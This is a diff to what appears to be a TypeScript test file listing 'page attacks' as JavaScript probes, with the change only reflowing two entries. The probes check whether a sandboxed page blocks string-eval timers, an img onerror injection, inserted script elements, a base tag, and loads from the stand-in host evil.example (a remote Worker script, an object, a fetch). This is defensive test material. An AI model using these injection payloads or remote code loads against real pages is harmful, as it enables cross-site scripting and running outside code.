@@ -6,8 +6,7 @@ export const pageAttacks: Readonly<Record<string, string>> = {
     'globalThis.hit = 0; setTimeout("globalThis.hit = 1"); await new Promise((r) => setTimeout(r, 50)); return globalThis.hit === 1',
   'markup with a handler':
     'document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=\'globalThis.hit = 2\'>"); await new Promise((r) => setTimeout(r, 80)); return globalThis.hit === 2',
-  'markup through innerHTML':
-    'const d = document.createElement("div"); d.innerHTML = "<b>x</b>"; return d.childElementCount === 1',
+  'markup through innerHTML': 'const d = document.createElement("div"); d.innerHTML = "<b>x</b>"; return d.childElementCount === 1',
   'a script element with text':
     'const s = document.createElement("script"); s.textContent = "globalThis.hit = 3"; document.body.append(s); return globalThis.hit === 3',
   'a script from elsewhere':
@@ -19,8 +18,7 @@ export const pageAttacks: Readonly<Record<string, string>> = {
     'const b = document.createElement("base"); b.href = "https://evil.example/"; document.head.append(b); return document.baseURI.startsWith("https://evil")',
   'an object':
     'const o = document.createElement("object"); o.data = "https://evil.example/"; document.body.append(o); await new Promise((r) => setTimeout(r, 80)); return o.contentDocument !== null',
-  'a webview':
-    'const v = document.createElement("webview"); document.body.append(v); return typeof v.executeJavaScript === "function"',
+  'a webview': 'const v = document.createElement("webview"); document.body.append(v); return typeof v.executeJavaScript === "function"',
   'a service worker': 'return Boolean(await navigator.serviceWorker.register("/review"))',
   'a worker from elsewhere': 'new Worker("https://evil.example/w.js"); return true',
   'a request to elsewhere': 'return (await fetch("https://evil.example/", { mode: "no-cors" })) !== null',
